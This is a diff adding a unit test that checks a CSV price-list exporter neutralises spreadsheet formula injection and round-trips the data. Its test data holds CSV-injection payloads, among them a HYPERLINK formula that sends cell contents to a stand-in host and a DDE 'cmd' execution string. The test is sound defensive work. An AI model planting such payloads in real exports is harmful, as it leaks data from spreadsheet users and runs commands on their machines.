@@ -65,6 +65,20 @@ describe('CSV price list import', () => {
     expect(r.ok && r.catalog.offers.map((o) => o.id)).toEqual(['only']);
   });
 
+  it('exports a vendor or note that starts with = + - @ tab or CR as text a spreadsheet will not evaluate, and reads it back unchanged', () => {
+    const payloads = ['=HYPERLINK("http://x.example/?"&A2,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1', '\r=1', "'=already quoted"];
+    const catalog = { ...defaultCatalog, offers: defaultCatalog.offers.map((o, i) => ({ ...o, vendor: payloads[i % payloads.length], notes: payloads[(i + 1) % payloads.length] })) };
+    const csv = priceListCsv(catalog);
+    const rows = parseCsv(csv);
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(rows[1][3]).toBe(`'${payloads[0]}`);
+    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A2,""Click"")"`);
+    expect(rows[1][4]).toMatch(/^\d/); // a price stays a number
+    const back = applyPriceList(catalog, csv);
+    expect(back.ok).toBe(true);
+    if (back.ok) expect(back.catalog.offers).toEqual(catalog.offers);
+  });
+
   it('reads back its own export unchanged', () => {
     const r = applyPriceList(defaultCatalog, priceListCsv(defaultCatalog));
     expect(r.ok).toBe(true);
